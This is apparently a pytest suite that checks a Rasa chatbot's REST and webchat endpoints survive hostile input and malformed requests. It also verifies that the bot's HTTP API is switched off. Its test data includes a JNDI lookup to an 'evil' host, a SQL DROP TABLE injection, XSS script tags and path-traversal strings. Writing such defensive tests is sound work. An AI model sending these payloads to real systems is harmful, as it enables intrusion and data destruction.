"""Hostile input through the REST and web chat channels (issue 6), with the real servers:
no 5xx, no crash, a helpful reply, and the conversation still works afterwards."""
from __future__ import annotations

import uuid

import pytest
import requests

HOSTILE = {
    "empty": "",
    "whitespace": " \t\n ",
    "control characters": "\x00\x01\x07\x1b[2J\x7f hello",
    "bidi overrides": "\u202eI need an interpreter\u202c \u2066\u2067\u2069",
    "emoji flood": "😀🔥" * 900,
    "zalgo": "h̸̛̛e̵͠l̷̕p̶̡" * 50,
    "payload injection": '/refine_search{"place": "HA1", "category": "carers"}',
    "payload with a slot": '/greet{"language": "../../etc", "listed_services": ["x"]}',
    "restart injection": "/restart",
    "template injection": "{council_phone} {{7*7}} ${jndi:ldap://evil/x} %s %n {0.__class__}",
    "sql injection": "'; DROP TABLE service; -- \" OR 1=1 --",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "long": "help " * 399,
    "too long": "I need help " * 300,
}


@pytest.fixture(params=["rest", "webchat"])
def webhook(request, servers):
    return servers.webhook.replace("/rest/", f"/{request.param}/")


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_message_gets_a_helpful_reply_and_the_conversation_survives(webhook, kind):
    sender = f"hostile-{uuid.uuid4().hex}"
    reply = requests.post(webhook, json={"sender": sender, "message": HOSTILE[kind]},
                          timeout=60)
    assert reply.status_code == 200, reply.text
    messages = reply.json()
    assert messages and all(m.get("text") for m in messages)
    assert "Traceback" not in reply.text
    after = requests.post(webhook, json={"sender": sender, "message": "I need an interpreter"},
                          timeout=60).json()
    assert any(m.get("custom", {}).get("type") == "services" for m in after), after


@pytest.mark.parametrize("body, status", [
    (b'{"sender": "a", "message": "\xff\xfe bad utf-8"}', 400),
    (b"not json at all", 400),
    (b'{"sender": "a"}', 400),
    (b'{"sender": "../../etc/passwd", "message": "hi"}', 400),
    (b'{"sender": "a", "message": "hi", "metadata": "ro"}', 400),
    (b'[1, 2, 3]', 400),
    (('{"sender": "a", "message": "' + "x" * 100_000 + '"}').encode(), 413),
])
def test_malformed_requests_get_a_clear_4xx(webhook, body, status):
    reply = requests.post(webhook, data=body, timeout=60,
                          headers={"Content-Type": "application/json"})
    assert reply.status_code == status, reply.text
    assert reply.json().get("error")


def test_the_servers_are_still_up(servers):
    assert servers.rasa.poll() is None and servers.actions.poll() is None


@pytest.mark.parametrize("method, path", [
    ("GET", "/conversations/someone/tracker"), ("POST", "/conversations/someone/messages"),
    ("GET", "/status"), ("PUT", "/model"), ("POST", "/model/train"), ("GET", "/domain"),
])
def test_rasas_http_api_is_off(servers, method, path):
    """No --enable-api: nobody can read or change a conversation or the model over HTTP."""
    reply = requests.request(method, f"{servers.rasa_url}{path}", timeout=10)
    assert reply.status_code in (404, 405), (path, reply.status_code)
